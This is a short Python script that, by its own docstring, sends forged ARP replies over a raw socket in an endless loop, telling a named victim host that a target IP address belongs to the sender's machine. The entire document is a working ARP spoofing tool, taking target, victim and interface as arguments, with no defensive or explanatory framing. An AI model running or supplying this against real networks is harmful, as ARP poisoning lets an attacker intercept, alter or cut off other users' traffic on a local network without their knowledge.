"""Says again and again that an address is at this machine, to one victim, with forged ARP replies: TARGET VICTIM INTERFACE."""
import fcntl, socket, struct, sys, time

target, victim, interface = sys.argv[1:4]
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
raw.bind((interface, 0))
own = fcntl.ioctl(raw.fileno(), 0x8927, struct.pack('256s', interface.encode()))[18:24]
packet = (b'\xff' * 6 + own + struct.pack('!HHHBBH', 0x0806, 1, 0x0800, 6, 4, 2)
          + own + socket.inet_aton(target) + b'\xff' * 6 + socket.inet_aton(victim))
while True:
    raw.send(packet)
    time.sleep(0.1)
